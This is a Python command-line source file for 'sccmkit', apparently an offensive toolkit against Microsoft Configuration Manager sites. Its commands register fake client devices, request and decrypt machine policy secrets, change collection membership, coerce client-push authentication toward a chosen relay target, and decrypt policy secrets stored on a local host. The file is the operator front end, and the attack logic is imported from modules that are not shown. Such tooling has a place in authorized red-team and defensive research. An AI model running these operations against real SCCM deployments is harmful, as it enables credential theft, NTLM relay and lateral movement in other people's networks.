"""
sccmkit CLI
Operator entry point: parses options, calls sccmkit.operations and prints
results. Errors are reported as a one-line "[!]" diagnostic; --debug adds
the full causal chain.
"""

import sys
import traceback
from typing import Any, Optional

import click

from . import __version__
from .errors import InvalidArgumentCombinationError, SccmError
from .identity.provider import ClientIdentity, IdentityProvider
from .logging import configure_logging
from .messaging.transport import Transport
from .utils.config import settings


class SccmGroup(click.Group):
    """Click group that renders SccmError as a one-line diagnostic."""

    def invoke(self, ctx: click.Context) -> Any:
        try:
            return super().invoke(ctx)
        except SccmError as e:
            click.echo(f"[!] {e.message}", err=True)
            if ctx.params.get("debug"):
                click.echo("".join(traceback.format_exception(type(e), e, e.__traceback__)), err=True)
            ctx.exit(1)


def _auth(username: Optional[str], password: Optional[str]) -> Any:
    if not username and not password:
        return None
    if not (username and password):
        raise InvalidArgumentCombinationError("Specify both a username (-u) and a password (-p)")
    try:
        from requests_ntlm import HttpNtlmAuth
    except ImportError as e:
        raise click.UsageError("Windows authentication needs the ntlm extra: pip install 'sccmkit[ntlm]'") from e
    return HttpNtlmAuth(username, password)


def _site_namespace(site_code: Optional[str]) -> str:
    if not site_code:
        raise InvalidArgumentCombinationError("Specify the site code (-s) to reach the SMS provider")
    return rf"root\sms\site_{site_code}"


def _identity(
    certificate: Optional[str], client_id: Optional[str], client_name: Optional[str]
) -> Optional[ClientIdentity]:
    if not certificate and not client_id:
        return None
    if not client_name:
        raise InvalidArgumentCombinationError("Specify the registered device name (-r) with -c/-i")
    return IdentityProvider(settings).load_identity(certificate, client_id)


def _require_management_point(ctx: click.Context) -> str:
    management_point = ctx.obj["management_point"]
    if not management_point:
        raise InvalidArgumentCombinationError("Specify the management point (-m or SCCM_MANAGEMENT_POINT)")
    return management_point


def _transport(ctx: click.Context) -> Transport:
    return Transport(settings=settings, auth=ctx.obj["auth"])


def _query(ctx: click.Context):
    from .query.wsman import WsManObjectQuery

    return WsManObjectQuery(
        _require_management_point(ctx),
        _site_namespace(ctx.obj["site_code"]),
        auth=ctx.obj["auth"],
        settings=settings,
    )


identity_options = [
    click.option("--certificate", "-c", help="Exported client certificate (PKCS#12 hex) of a registered device"),
    click.option("--client-id", "-i", "client_id", help="Client token (GUID) of the registered device"),
]


def with_identity(func):
    for option in reversed(identity_options):
        func = option(func)
    return func


@click.group(cls=SccmGroup)
@click.version_option(__version__)
@click.option("--management-point", "-m", default=lambda: settings.MANAGEMENT_POINT, help="Management point host")
@click.option("--site-code", "-s", default=lambda: settings.SITE_CODE, help="Three character site code")
@click.option("--port", type=int, default=None, help="Management point port")
@click.option("--username", "-u", default=None, help="Domain user for Windows authentication (DOMAIN\\user)")
@click.option("--password", "-p", default=None, help="Password for Windows authentication")
@click.option("--debug", is_flag=True, help="Verbose logging and full error chains")
@click.pass_context
def cli(ctx, management_point, site_code, port, username, password, debug):
    """sccmkit: Configuration Manager client emulation and secret recovery."""
    configure_logging(level="DEBUG" if debug else settings.LOG_LEVEL)
    ctx.ensure_object(dict)
    ctx.obj.update(
        management_point=management_point,
        site_code=site_code,
        port=port,
        auth=_auth(username, password),
    )


# === GET ===
@cli.group()
def get():
    """Retrieve information from a management point."""


@get.command("secrets")
@with_identity
@click.option("--client-name", "-r", default=None, help="Device name to register or report")
@click.option("--wait-time", "-w", type=float, default=None, help="Seconds to wait after registering")
@click.option("--output", "-o", type=click.Path(dir_okay=False), default=None, help="Write policies and secrets here")
@click.pass_context
def get_secrets(ctx, certificate, client_id, client_name, wait_time, output):
    """Request machine policy and decrypt its protected values."""
    from .operations import format_report, get_secrets_from_policy

    identity = _identity(certificate, client_id, client_name)
    result = get_secrets_from_policy(
        _transport(ctx),
        _require_management_point(ctx),
        identity=identity,
        client_name=client_name,
        registration_wait=wait_time,
        output_path=output,
        port=ctx.obj["port"],
    )
    click.echo(f"[+] {len(result.assignments)} policy assignments, {len(result.documents)} with protected values")
    for line in format_report(result.report):
        click.echo(line)
    if identity is None:
        click.echo(f"[+] Client token: {result.identity.client_token}")
        click.echo(f"[+] Certificate: {IdentityProvider.export_identity(result.identity)}")


@get.command("content-locations")
@with_identity
@click.option("--package-id", required=True, help="Package ID, e.g. PS100012")
@click.option("--package-version", type=int, default=1, show_default=True)
@click.option("--client-name", "-r", default=None)
@click.pass_context
def get_content_locations(ctx, certificate, client_id, package_id, package_version, client_name):
    """List distribution points serving a package."""
    from .operations import get_content_locations as locate

    reply = locate(
        _transport(ctx),
        _require_management_point(ctx),
        package_id,
        package_version,
        identity=_identity(certificate, client_id, client_name),
        client_name=client_name,
        port=ctx.obj["port"],
    )
    if not reply.locations:
        click.echo(f"[!] No content locations for {package_id}")
    for location in reply.locations:
        click.echo(f"[+] {location.server} {location.url or ''} {location.locality or ''}".rstrip())


# === NEW ===
@cli.group()
def new():
    """Create devices and collection members."""


@new.command("device")
@click.option("--name", "-n", default=None, help="Device name (random when omitted)")
@click.option("--authenticated", is_flag=True, help="Register over the Windows authenticated endpoint")
@click.option("--output", "-o", type=click.Path(dir_okay=False), default=None, help="Write the exported identity here")
@click.pass_context
def new_device(ctx, name, authenticated, output):
    """Register a new device and print its identity."""
    from .operations import register_device
    from .utils.files import write_artifact

    if authenticated and ctx.obj["auth"] is None:
        raise InvalidArgumentCombinationError("Authenticated registration needs a username (-u) and password (-p)")
    device = register_device(
        _transport(ctx), _require_management_point(ctx), client_name=name, authenticated=authenticated,
        port=ctx.obj["port"],
    )
    click.echo(f"[+] Registered {device.client_name}")
    click.echo(f"[+] Client token: {device.identity.client_token}")
    click.echo(f"[+] Certificate: {device.exported}")
    if output:
        write_artifact(output, f"{device.identity.client_token}\n{device.exported}\n")


def _membership_options(func):
    options = [
        click.option("--collection-id", "-i", default=None),
        click.option("--collection-name", "-n", default=None),
        click.option("--device", "-d", default=None, help="Device name"),
        click.option("--user", "-u", "user", default=None, help="UniqueUserName, e.g. CORP\\\\jdoe"),
        click.option("--resource-id", "-r", default=None),
        click.option("--collection-type", "-t", type=click.Choice(["device", "user"]), default=None),
        click.option("--wait-time", "-w", type=float, default=None, help="Seconds to wait for the collection"),
    ]
    for option in reversed(options):
        func = option(func)
    return func


def _print_membership(change) -> None:
    snapshot = change.snapshot
    state = "converged" if snapshot.converged else "not yet converged"
    click.echo(f"[+] {change.collection.collection_id} ({change.collection.name}) {state}, {len(snapshot.members)} members")
    for member in snapshot.members:
        click.echo(f"    {member.get('ResourceID', '')}  {member.get('Name', '')}")


@new.command("collection-member")
@_membership_options
@click.pass_context
def new_collection_member(ctx, collection_id, collection_name, device, user, resource_id, collection_type, wait_time):
    """Add a device or user to a collection and wait for it to appear."""
    from .operations import add_collection_member

    change = add_collection_member(
        _query(ctx), collection_id, collection_name, device, user, resource_id, collection_type,
        wait=wait_time, settings=settings,
    )
    _print_membership(change)


# === REMOVE ===
@cli.group()
def remove():
    """Undo changes made with 'new'."""


@remove.command("collection-member")
@_membership_options
@click.pass_context
def remove_collection_member(ctx, collection_id, collection_name, device, user, resource_id, collection_type, wait_time):
    """Remove a device or user from a collection and wait for it to leave."""
    from .operations import remove_collection_member as remove_member

    change = remove_member(
        _query(ctx), collection_id, collection_name, device, user, resource_id, collection_type,
        wait=wait_time, settings=settings,
    )
    _print_membership(change)


# === INVOKE ===
@cli.group()
def invoke():
    """Trigger actions on the site."""


@invoke.command("client-push")
@with_identity
@click.option("--target", "-t", required=True, help="Relay target, host or host@port")
@click.option("--client-name", "-r", default=None)
@click.option("--domain", default=None)
@click.pass_context
def invoke_client_push(ctx, certificate, client_id, target, client_name, domain):
    """Send a discovery record that names the relay target."""
    from .operations import invoke_client_push as push

    response = push(
        _transport(ctx),
        _require_management_point(ctx),
        target,
        identity=_identity(certificate, client_id, client_name),
        client_name=client_name,
        domain=domain,
        port=ctx.obj["port"],
    )
    if response.payload.accepted:
        click.echo(f"[+] Discovery record naming {target} accepted (HTTP {response.status})")
    else:
        click.echo(f"[!] Discovery record rejected (HTTP {response.status})")


# === LOCAL ===
@cli.group()
def local():
    """Operate on the local client."""


@local.command("secrets")
@click.option("--method", "-m", type=click.Choice(["wmi", "disk"]), default="wmi", show_default=True)
@click.option("--tactic", type=click.Choice(["registry", "token"]), default="registry", show_default=True)
@click.option("--output", "-o", type=click.Path(dir_okay=False), default=None)
@click.pass_context
def local_secrets(ctx, method, tactic, output):
    """Decrypt policy secrets stored on this host (administrator)."""
    from .operations import collect_local_secrets, format_report

    query = None
    if method == "wmi":
        from .query.wsman import WsManObjectQuery
        from .secrets.sources import ACTUAL_CONFIG_NAMESPACE

        if ctx.obj["auth"] is None:
            raise InvalidArgumentCombinationError("The wmi method needs local credentials (-u/-p) for WinRM")
        query = WsManObjectQuery("localhost", ACTUAL_CONFIG_NAMESPACE, auth=ctx.obj["auth"], settings=settings)

    report = collect_local_secrets(method=method, tactic=tactic, query=query, settings=settings, output_path=output)
    if not report.secrets and not report.failures:
        click.echo("[!] No protected policy values found")
    for line in format_report(report):
        click.echo(line)


def main():
    """Main entry point for the CLI."""
    cli(obj={})


if __name__ == "__main__":
    sys.exit(main())
